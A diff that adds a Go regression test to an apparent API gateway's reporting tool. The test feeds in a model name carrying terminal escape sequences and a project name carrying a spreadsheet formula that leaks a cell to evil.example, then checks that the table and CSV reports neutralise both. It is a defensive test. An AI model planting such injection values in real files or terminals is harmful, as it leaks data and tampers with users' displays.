@@ -1,0 +1,47 @@
+package main
+
+import (
+	"encoding/csv"
+	"strings"
+	"testing"
+)
+
+// TestHostileNamesThroughGateway: a client chooses its model name (with a
+// terminal escape sequence) and its project (a spreadsheet formula); the
+// tables of report and the CSV of report --csv show neither in a form
+// that acts (issue 13 item 6).
+func TestHostileNamesThroughGateway(t *testing.T) {
+	up, _ := newUpstream(t)
+	gw := startGateway(t, up.URL, nil)
+	resp, body := post(t, gw.URL()+"/anthropic/v1/messages", map[string]string{"X-Tokenmeter-Project": `=HYPERLINK("http://evil.example/?"&A1,"open")`},
+		`{"model":"\u001b]0;owned\u0007\u001b[2Jclaude-haiku-5-5","max_tokens":100,"messages":[{"role":"user","content":"[[fake output=10]] hi"}]}`)
+	if resp.StatusCode != 200 {
+		t.Fatalf("call: %d %s", resp.StatusCode, body)
+	}
+	gw.waitCompleted(t, resp.Header.Get(HeaderRequestIDForTest))
+	for _, by := range []string{"model", "project"} {
+		out, stderr, err := run(t, "report", "daily", "--by", by, "--data", gw.Config.Data)
+		if err != nil {
+			t.Fatalf("report --by %s: %v %s", by, err, stderr)
+		}
+		if strings.ContainsAny(out, "\x1b\x07") {
+			t.Errorf("report daily --by %s writes control characters to the terminal:\n%q", by, out)
+		}
+		out, _, err = run(t, "report", "daily", "--by", by, "--csv", "--data", gw.Config.Data)
+		if err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
+		if err != nil {
+			t.Fatalf("report --csv: %v\n%s", err, out)
+		}
+		for _, row := range rows {
+			if k := row[1]; k != "" && strings.ContainsAny(k[:1], "=+-@\t\r") {
+				t.Errorf("report --csv --by %s: key cell %q is a formula", by, k)
+			}
+		}
+		if by == "project" && rows[1][1] != `'=HYPERLINK("http://evil.example/?"&A1,"open")` {
+			t.Errorf("report --csv --by project: key cell %q; want the project behind a quote", rows[1][1])
+		}
+	}
+}
